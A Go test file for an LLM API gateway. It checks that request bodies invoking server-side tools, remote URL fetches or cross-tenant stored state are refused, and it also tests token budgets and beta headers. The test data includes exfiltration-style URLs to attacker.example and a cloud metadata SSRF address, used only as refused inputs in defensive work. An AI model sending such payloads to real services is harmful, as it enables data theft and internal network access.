package gateway

import (
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"
)

const (
	msgPath   = "/anthropic/v1/messages"
	respPath  = "/openai/v1/responses"
	chatPath  = "/openai/v1/chat/completions"
	anthAuth  = "X-Api-Key: " + placeholder
	userHi    = `"messages":[{"role":"user","content":"hi"}]`
	clientAnt = `[{"name":"get","input_schema":{"type":"object","properties":{"url":{"type":"string"},"file_id":{"type":"string"}}}},` +
		`{"type":"custom","name":"c","input_schema":{"type":"object"}},{"type":"bash_20250124","name":"bash"},` +
		`{"type":"text_editor_20250728","name":"str_replace_based_edit_tool"},{"type":"computer_20250124","name":"computer","display_width_px":1024,"display_height_px":768},` +
		`{"type":"memory_20250818","name":"memory"}]`
	clientOAI = `[{"type":"function","name":"get","parameters":{"type":"object"}},{"type":"custom","name":"apply"},{"type":"local_shell"},` +
		`{"type":"apply_patch"},{"type":"computer_use_preview","display_width":1024,"display_height":768,"environment":"linux"},{"type":"shell"}]`
	clientChat = `[{"type":"function","function":{"name":"get","parameters":{"type":"object"}}},{"type":"custom","custom":{"name":"c"}}]`
	pngB64     = `iVBORw0KGgo=`
)

// policyHarness answers every forwarded request with a small successful
// body, so a test sees whether a request reached the upstream.
func policyHarness(t *testing.T, mod func(*Options)) *harness {
	h := newHarness(t, mod)
	h.openai.handle = func(w http.ResponseWriter, _ *http.Request, _ []byte) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"model":"gpt-4.1","usage":{"input_tokens":3,"output_tokens":2}}`)
	}
	h.anth.handle = func(w http.ResponseWriter, _ *http.Request, _ []byte) {
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"model":"claude-x","usage":{"input_tokens":3,"output_tokens":2}}`)
	}
	return h
}

// errorMessage reads the message of either error shape.
func errorMessage(t *testing.T, body []byte) string {
	t.Helper()
	var e struct {
		Error struct {
			Message string `json:"message"`
		} `json:"error"`
	}
	if err := json.Unmarshal(body, &e); err != nil {
		t.Fatalf("error body is not JSON: %q", body)
	}
	return e.Error.Message
}

// hits is how many requests both fakes have received.
func (h *harness) hits() int32 { return h.openai.hits.Load() + h.anth.hits.Load() }

// TestPolicyRefusesProviderSideActions sends, for each way a body could
// make the provider reach the network, run a tool of its own or use
// another request's state, the dangerous body (refused with 400 in the
// API's error shape, recorded, upstream never called) and the same body
// without the dangerous part (forwarded).
func TestPolicyRefusesProviderSideActions(t *testing.T) {
	h := policyHarness(t, nil)
	msg := func(extra string) string { return `{"model":"claude-x","max_tokens":100,` + userHi + extra + `}` }
	msgContent := func(block string) string {
		return `{"model":"claude-x","max_tokens":100,"messages":[{"role":"user","content":[{"type":"text","text":"look"},` + block + `]}]}`
	}
	resp := func(extra string) string { return `{"model":"gpt-4.1","input":"hi"` + extra + `}` }
	respInput := func(part string) string {
		return `{"model":"gpt-4.1","input":[{"role":"user","content":[{"type":"input_text","text":"look"},` + part + `]}]}`
	}
	chat := func(extra string) string { return `{"model":"gpt-4o",` + userHi + extra + `}` }
	chatContent := func(part string) string {
		return `{"model":"gpt-4o","messages":[{"role":"user","content":[{"type":"text","text":"look"},` + part + `]}]}`
	}
	tests := []struct {
		name, path, bad, good, refused string
	}{
		// Anthropic Messages
		{"anthropic web_search", msgPath, msg(`,"tools":[{"type":"web_search_20250305","name":"web_search","max_uses":3}]`), msg(`,"tools":` + clientAnt), `server-side tool "web_search_20250305"`},
		{"anthropic web_fetch", msgPath, msg(`,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]`), msg(`,"tools":[]`), `"web_fetch_20250910"`},
		{"anthropic code_execution", msgPath, msg(`,"tools":[{"type":"code_execution_20250825","name":"code_execution"}]`), msg(``), `"code_execution_20250825"`},
		{"anthropic tool search", msgPath, msg(`,"tools":[{"type":"tool_search_tool_regex_20251119","name":"tool_search"}]`), msg(``), `"tool_search_tool_regex_20251119"`},
		{"anthropic mcp_toolset", msgPath, msg(`,"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]`), msg(``), `"mcp_toolset"`},
		{"anthropic unknown tool type", msgPath, msg(`,"tools":[{"type":"teleport_20991231","name":"t"}]`), msg(``), `"teleport_20991231"`},
		{"anthropic mcp_servers", msgPath, msg(`,"mcp_servers":[{"type":"url","url":"https://attacker.example/mcp","name":"x"}]`), msg(`,"mcp_servers":null`), `field "mcp_servers"`},
		{"anthropic container", msgPath, msg(`,"container":"container_011CQUeDc"`), msg(``), `field "container"`},
		{"anthropic unknown field", msgPath, msg(`,"plugins":[{"id":"web"}]`), msg(`,"thinking":{"type":"enabled","budget_tokens":50}`), `unknown field "plugins"`},
		{"anthropic image url", msgPath, msgContent(`{"type":"image","source":{"type":"url","url":"https://attacker.example/x.png?d=secret"}}`),
			msgContent(`{"type":"image","source":{"type":"base64","media_type":"image/png","data":"` + pngB64 + `"}}`), `"image" source of type "url"`},
		{"anthropic document url in tool_result", msgPath,
			`{"model":"claude-x","max_tokens":100,"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"get","input":{"source":{"type":"url","url":"https://x.example"}}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":[{"type":"document","source":{"type":"url","url":"https://attacker.example/a.pdf"}}]}]}]}`,
			`{"model":"claude-x","max_tokens":100,"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t1","name":"get","input":{"source":{"type":"url","url":"https://x.example"}}}]},{"role":"user","content":[{"type":"tool_result","tool_use_id":"t1","content":[{"type":"document","source":{"type":"text","media_type":"text/plain","data":"ok"}}]}]}]}`,
			`"document" source of type "url"`},
		{"anthropic file source", msgPath, msgContent(`{"type":"document","source":{"type":"file","file_id":"file_011CNha8iCJcU1wXNR6q4V8w"}}`),
			msgContent(`{"type":"document","source":{"type":"content","content":[{"type":"text","text":"inline"}]}}`), `source of type "file"`},
		{"anthropic container_upload", msgPath, msgContent(`{"type":"container_upload","file_id":"file_1"}`), msgContent(`{"type":"text","text":"x"}`), `"container_upload"`},
		{"anthropic system url", msgPath, `{"model":"claude-x","max_tokens":100,` + userHi + `,"system":[{"type":"text","text":"s"},{"type":"image","source":{"type":"url","url":"http://10.0.0.1/"}}]}`,
			`{"model":"claude-x","max_tokens":100,` + userHi + `,"system":[{"type":"text","text":"s","cache_control":{"type":"ephemeral"}}]}`, `source of type "url"`},
		{"anthropic duplicate tools", msgPath, `{"model":"claude-x","max_tokens":100,` + userHi + `,"tools":[{"type":"web_search_20250305","name":"w"}],"tools":[]}`,
			msg(`,"tools":[]`), `duplicate field "tools"`},
		{"anthropic bare path", "/v1/messages", msg(`,"tools":[{"type":"web_search_20250305","name":"web_search"}]`), msg(``), `"web_search_20250305"`},

		// OpenAI Responses
		{"responses mcp", respPath, resp(`,"tools":[{"type":"mcp","server_label":"x","server_url":"https://attacker.example/sse","require_approval":"never"}]`), resp(`,"tools":` + clientOAI), `server-side tool "mcp"`},
		{"responses web_search", respPath, resp(`,"tools":[{"type":"web_search"}]`), resp(`,"tools":[]`), `"web_search"`},
		{"responses web_search_preview", respPath, resp(`,"tools":[{"type":"web_search_preview_2025_03_11"}]`), resp(``), `"web_search_preview_2025_03_11"`},
		{"responses file_search", respPath, resp(`,"tools":[{"type":"file_search","vector_store_ids":["vs_other_tenant"]}]`), resp(``), `"file_search"`},
		{"responses code_interpreter", respPath, resp(`,"tools":[{"type":"code_interpreter","container":{"type":"auto"}}]`), resp(``), `"code_interpreter"`},
		{"responses image_generation", respPath, resp(`,"tools":[{"type":"image_generation"}]`), resp(``), `"image_generation"`},
		{"responses hosted shell", respPath, resp(`,"tools":[{"type":"shell","environment":{"type":"container_auto"}}]`), resp(`,"tools":[{"type":"shell","environment":{"type":"local"}}]`), `"shell"`},
		{"responses input_file url", respPath, respInput(`{"type":"input_file","file_url":"https://attacker.example/?d=secret"}`),
			respInput(`{"type":"input_file","filename":"a.txt","file_data":"data:text/plain;base64,aGk="}`), `"input_file" with a file_url`},
		{"responses input_image url", respPath, respInput(`{"type":"input_image","image_url":"https://attacker.example/p.png"}`),
			respInput(`{"type":"input_image","image_url":"data:image/png;base64,` + pngB64 + `"}`), `not a data: URL`},
		{"responses input_image file_id", respPath, respInput(`{"type":"input_image","file_id":"file-abc"}`), respInput(`{"type":"input_text","text":"x"}`), `with a file_id`},
		{"responses image in function output", respPath,
			`{"model":"gpt-4.1","input":[{"type":"function_call_output","call_id":"c1","output":[{"type":"input_image","image_url":"http://attacker.example/x"}]}]}`,
			`{"model":"gpt-4.1","input":[{"type":"function_call","call_id":"c1","name":"get","arguments":"{\"url\":\"https://x\"}"},{"type":"function_call_output","call_id":"c1","output":"ok"}]}`,
			`not a data: URL`},
		{"responses previous_response_id", respPath, resp(`,"previous_response_id":"resp_other_tenant"`), resp(`,"previous_response_id":null`), `field "previous_response_id"`},
		{"responses conversation", respPath, resp(`,"conversation":"conv_other_tenant"`), resp(``), `field "conversation"`},
		{"responses prompt template", respPath, resp(`,"prompt":{"id":"pmpt_1"}`), resp(``), `field "prompt"`},
		{"responses background", respPath, resp(`,"background":true`), resp(`,"background":false`), `field "background"`},
		{"responses item_reference", respPath, `{"model":"gpt-4.1","input":[{"type":"item_reference","id":"msg_other"}]}`, resp(``), `"item_reference"`},
		// The reference's type is optional in OpenAI's API.
		{"responses item reference without type", respPath, `{"model":"gpt-4.1","input":[{"id":"msg_other"}]}`,
			`{"model":"gpt-4.1","input":[{"type":"function_call","id":"fc_1","call_id":"c1","name":"get","arguments":"{}"},{"type":"function_call_output","call_id":"c1","output":"ok"}]}`, `stored item reference`},
		{"responses item reference with a null type", respPath, `{"model":"gpt-4.1","input":[{"id":"msg_other","type":null}]}`, resp(``), `stored item reference`},
		{"responses unknown field", respPath, resp(`,"plugins":["web"]`), resp(`,"reasoning":{"effort":"low"},"include":["reasoning.encrypted_content"],"store":true`), `unknown field "plugins"`},

		// OpenAI chat completions
		{"chat web_search_options", chatPath, chat(`,"web_search_options":{}`), chat(``), `"web_search_options"`},
		{"chat server tool", chatPath, chat(`,"tools":[{"type":"web_search"}]`), chat(`,"tools":` + clientChat), `"web_search"`},
		{"chat image url", chatPath, chatContent(`{"type":"image_url","image_url":{"url":"https://attacker.example/i.png"}}`),
			chatContent(`{"type":"image_url","image_url":{"url":"data:image/png;base64,` + pngB64 + `"}}`), `not a data: URL`},
		{"chat image url as a string", chatPath, chatContent(`{"type":"image_url","image_url":"http://169.254.169.254/latest/"}`),
			chatContent(`{"type":"image_url","image_url":"data:image/png;base64,` + pngB64 + `"}`), `image_url that is not a data: URL`},
		{"chat video url (vLLM)", chatPath, chatContent(`{"type":"video_url","video_url":{"url":"https://attacker.example/v.mp4"}}`),
			chatContent(`{"type":"text","text":"no video"}`), `video_url that is not a data: URL`},
		{"chat file_id", chatPath, chatContent(`{"type":"file","file":{"file_id":"file-abc"}}`),
			chatContent(`{"type":"file","file":{"filename":"a.pdf","file_data":"data:application/pdf;base64,aGk="}}`), `file part with a file_id`},
		{"chat unknown field", chatPath, chat(`,"plugins":[]`), chat(`,"max_completion_tokens":50,"n":1,"seed":3`), `unknown field "plugins"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			auth, anthropic := bearer, strings.Contains(tt.path, "messages")
			if anthropic {
				auth = anthAuth
			}
			before, nrec := h.hits(), len(h.records())
			resp, body := h.do(h.request("POST", tt.path, auth, tt.bad))
			if resp.StatusCode != http.StatusBadRequest || errorCode(t, body) != ErrRefused {
				t.Fatalf("dangerous body: status %d: %s", resp.StatusCode, body)
			}
			if !strings.Contains(errorMessage(t, body), tt.refused) {
				t.Errorf("error %s does not name %s", body, tt.refused)
			}
			if got := strings.Contains(string(body), `"type":"error"`); got != anthropic {
				t.Errorf("error shape not the API's: %s", body)
			}
			if h.hits() != before {
				t.Fatalf("the upstream was called for a refused request")
			}
			recs := h.records()
			if len(recs) != nrec+1 || recs[nrec].Error != ErrRefused || !strings.Contains(recs[nrec].Refused, tt.refused) ||
				recs[nrec].Attrs()["refused"] != recs[nrec].Refused {
				t.Errorf("record = %+v", recs[nrec:])
			}
			// positive control: the same request without the dangerous part
			resp, body = h.do(h.request("POST", tt.path, auth, tt.good))
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("control: status %d: %s", resp.StatusCode, body)
			}
			if h.hits() != before+1 {
				t.Errorf("control did not reach the upstream")
			}
		})
	}
}

// TestPolicyAllowsNamedServerTools checks the operator's allowlist: a
// named tool (any version) passes, others stay refused.
func TestPolicyAllowsNamedServerTools(t *testing.T) {
	h := policyHarness(t, func(o *Options) { o.Policy.AllowServerTools = []string{"web_search", "mcp"} })
	tests := []struct {
		path, body string
		status     int
	}{
		{msgPath, `{"model":"c","max_tokens":5,"tools":[{"type":"web_search_20250305","name":"web_search"},{"type":"web_search_20260209","name":"ws2"}]}`, 200},
		{msgPath, `{"model":"c","max_tokens":5,"mcp_servers":[{"type":"url","url":"https://mcp.example/","name":"m"}],"tools":[{"type":"mcp_toolset","mcp_server_name":"m"}]}`, 200},
		{msgPath, `{"model":"c","max_tokens":5,"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`, 400},
		{respPath, `{"model":"m","tools":[{"type":"web_search_preview"},{"type":"web_search"},{"type":"mcp","server_url":"https://mcp.example/"}]}`, 200},
		{respPath, `{"model":"m","tools":[{"type":"file_search","vector_store_ids":["vs_1"]}]}`, 400},
		{chatPath, `{"model":"m","web_search_options":{}}`, 200},
	}
	for _, tt := range tests {
		auth := bearer
		if tt.path == msgPath {
			auth = anthAuth
		}
		if resp, body := h.do(h.request("POST", tt.path, auth, tt.body)); resp.StatusCode != tt.status {
			t.Errorf("%s %s: status %d, want %d: %s", tt.path, tt.body, resp.StatusCode, tt.status, body)
		}
	}
}

// TestProviderState checks OpenAI store is forced to false and
// cross-request references are refused, unless the operator allows
// provider state.
func TestProviderState(t *testing.T) {
	storeOf := func(f *fakeUpstream) any {
		var b map[string]any
		if err := json.Unmarshal(f.lastBody(), &b); err != nil {
			t.Fatal(err)
		}
		return b["store"]
	}
	h := policyHarness(t, nil)
	for _, body := range []string{`{"model":"m","input":"x"}`, `{"model":"m","input":"x","store":true}`} {
		if resp, b := h.do(h.request("POST", respPath, bearer, body)); resp.StatusCode != 200 {
			t.Fatalf("%s: %d %s", body, resp.StatusCode, b)
		}
		if s := storeOf(h.openai); s != false {
			t.Errorf("responses %s: upstream store = %v, want false", body, s)
		}
	}
	h.do(h.request("POST", chatPath, bearer, `{"model":"m","messages":[],"store":true}`))
	if s := storeOf(h.openai); s != false {
		t.Errorf("chat: upstream store = %v, want false", s)
	}
	h.do(h.request("POST", chatPath, bearer, `{"model":"m","messages":[]}`))
	if s := storeOf(h.openai); s != nil {
		t.Errorf("chat without store: upstream store = %v, want absent", s)
	}

	allowed := policyHarness(t, func(o *Options) { o.Policy.AllowProviderState = true })
	for _, body := range []string{
		`{"model":"m","input":"x","store":true,"previous_response_id":"resp_1"}`,
		`{"model":"m","input":"x","conversation":"conv_1"}`,
		`{"model":"m","input":[{"type":"input_file","file_id":"file-1"}]}`,
	} {
		if resp, b := allowed.do(allowed.request("POST", respPath, bearer, body)); resp.StatusCode != 200 {
			t.Errorf("allowed state %s: %d %s", body, resp.StatusCode, b)
		}
	}
	if resp, b := allowed.do(allowed.request("POST", respPath, bearer, `{"model":"m","input":"x","store":true}`)); resp.StatusCode != 200 || storeOf(allowed.openai) != true {
		t.Errorf("allowed state: store rewritten: %d %s", resp.StatusCode, b)
	}
	// remote fetches stay refused even with provider state allowed
	if resp, _ := allowed.do(allowed.request("POST", respPath, bearer, `{"model":"m","input":[{"type":"input_file","file_url":"https://x.example/"}]}`)); resp.StatusCode != 400 {
		t.Errorf("file_url with state allowed: %d", resp.StatusCode)
	}
}

// TestBetaHeaders checks beta values outside the allowlist are dropped
// (and recorded), allowed ones pass, and the operator can extend the list.
func TestBetaHeaders(t *testing.T) {
	for _, tt := range []struct {
		name      string
		allow     []string
		wantAnth  string
		wantOAI   string
		wantDrops string
	}{
		{"default", nil, "interleaved-thinking-2025-05-14", "", "mcp-client-2025-04-04,files-api-2025-04-14,assistants=v2"},
		{"extended", []string{"files-api-2025-04-14", "assistants=v2"}, "interleaved-thinking-2025-05-14,files-api-2025-04-14", "assistants=v2", "mcp-client-2025-04-04"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			h := policyHarness(t, func(o *Options) { o.Policy.AllowBetas = tt.allow })
			req := h.request("POST", msgPath, anthAuth, `{"model":"c","max_tokens":5}`)
			req.Header.Set("Anthropic-Beta", "interleaved-thinking-2025-05-14,mcp-client-2025-04-04,files-api-2025-04-14")
			req.Header.Set("OpenAI-Beta", "assistants=v2")
			if resp, body := h.do(req); resp.StatusCode != 200 {
				t.Fatalf("%d %s", resp.StatusCode, body)
			}
			h.anth.mu.Lock()
			hdr := h.anth.hdrs[len(h.anth.hdrs)-1]
			h.anth.mu.Unlock()
			if got := hdr.Get("Anthropic-Beta"); got != tt.wantAnth {
				t.Errorf("upstream Anthropic-Beta = %q, want %q", got, tt.wantAnth)
			}
			if got := hdr.Get("OpenAI-Beta"); got != tt.wantOAI {
				t.Errorf("upstream OpenAI-Beta = %q, want %q", got, tt.wantOAI)
			}
			if got := h.records()[0].Attrs()["dropped_betas"]; (got == nil && tt.wantDrops != "") || (got != nil && got != tt.wantDrops) {
				t.Errorf("dropped_betas = %v, want %q", got, tt.wantDrops)
			}
		})
	}
}

// TestBudgetHoldsUnderConcurrency sends 8 requests at once against a
// budget that fits 4 of them: each reserves its input estimate and output
// cap before it is forwarded, so 4 reach the upstream, 4 are refused, and
// the usage stays within the budget.
func TestBudgetHoldsUnderConcurrency(t *testing.T) {
	const budget = 500
	// 51 bytes: 13 tokens estimated + 100 output = 113 reserved; 4 fit in 500
	body := `{"model":"claude-x","max_tokens":100,"messages":[]}`
	if len(body) != 51 {
		t.Fatalf("body is %d bytes", len(body))
	}
	h := newHarness(t, func(o *Options) { o.TokenBudget = budget })
	release := make(chan struct{})
	h.anth.handle = func(w http.ResponseWriter, _ *http.Request, _ []byte) {
		<-release // hold every forwarded request until all 8 have been answered or are in flight
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"model":"claude-x","usage":{"input_tokens":13,"output_tokens":100}}`)
	}
	var wg sync.WaitGroup
	statuses := make(chan int, 8)
	for range 8 {
		wg.Go(func() {
			resp, _ := h.do(h.request("POST", msgPath, anthAuth, body))
			statuses <- resp.StatusCode
		})
	}
	deadline := time.Now().Add(10 * time.Second)
	for {
		refused := len(h.records())
		if int(h.anth.hits.Load())+refused == 8 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("hits %d, refused %d", h.anth.hits.Load(), refused)
		}
		time.Sleep(5 * time.Millisecond)
	}
	close(release)
	wg.Wait()
	close(statuses)
	count := map[int]int{}
	for s := range statuses {
		count[s]++
	}
	u := h.gw.Usage()
	if u.Tokens() > budget {
		t.Errorf("usage %d tokens over the budget of %d", u.Tokens(), budget)
	}
	if count[200] != 4 || count[429] != 4 || h.anth.hits.Load() != 4 {
		t.Errorf("statuses %v, upstream hits %d; want 4 forwarded, 4 refused", count, h.anth.hits.Load())
	}
	// the reservations are settled: one more small request fits
	resp, b := h.do(h.request("POST", msgPath, anthAuth, `{"model":"claude-x","max_tokens":10}`))
	if resp.StatusCode != 200 {
		t.Errorf("after settling: %d %s", resp.StatusCode, b)
	}
}

// TestResponsesCapInserted checks a Responses request without an output
// cap is sent with the reservation as its cap when a budget is set.
func TestResponsesCapInserted(t *testing.T) {
	h := policyHarness(t, func(o *Options) { o.TokenBudget, o.OutputReservation = 100000, 777 })
	h.do(h.request("POST", respPath, bearer, `{"model":"m","input":"x"}`))
	var got map[string]any
	if err := json.Unmarshal(h.openai.lastBody(), &got); err != nil || got["max_output_tokens"] != float64(777) {
		t.Errorf("upstream body %s", h.openai.lastBody())
	}
	h.do(h.request("POST", respPath, bearer, `{"model":"m","input":"x","max_output_tokens":5}`))
	if err := json.Unmarshal(h.openai.lastBody(), &got); err != nil || got["max_output_tokens"] != float64(5) {
		t.Errorf("upstream body %s", h.openai.lastBody())
	}
}

func TestCompilePolicy(t *testing.T) {
	for _, tt := range []struct {
		p  Policy
		ok bool
	}{
		{Policy{}, true},
		{Policy{AllowServerTools: []string{"web_search", " code_execution_20250825 "}, AllowFields: []string{"keep_alive"}}, true},
		{Policy{AllowServerTools: []string{"Web Search"}}, false},
		{Policy{AllowFields: []string{"tools"}}, false},
		{Policy{AllowFields: []string{"previous_response_id"}}, false},
	} {
		if _, err := compilePolicy(tt.p); (err == nil) != tt.ok {
			t.Errorf("compilePolicy(%+v) = %v", tt.p, err)
		}
	}
	for typ, fam := range map[string]string{
		"web_search_20250305": "web_search", "web_search_preview_2025_03_11": "web_search", "web_search_preview": "web_search",
		"mcp_toolset": "mcp", "tool_search_tool_bm25_20251119": "tool_search_tool_bm25", "file_search": "file_search",
	} {
		if got := toolFamily(typ); got != fam {
			t.Errorf("toolFamily(%s) = %s, want %s", typ, got, fam)
		}
	}
}

// TestAllowedExtraField checks an operator-named extra field passes while
// an unknown one is still refused.
func TestAllowedExtraField(t *testing.T) {
	h := policyHarness(t, func(o *Options) { o.Policy.AllowFields = []string{"keep_alive"} })
	if resp, b := h.do(h.request("POST", chatPath, bearer, `{"model":"m","keep_alive":"5m"}`)); resp.StatusCode != 200 {
		t.Errorf("allowed field: %d %s", resp.StatusCode, b)
	}
	if resp, _ := h.do(h.request("POST", chatPath, bearer, `{"model":"m","options":{}}`)); resp.StatusCode != 400 {
		t.Errorf("unknown field: %d", resp.StatusCode)
	}
}
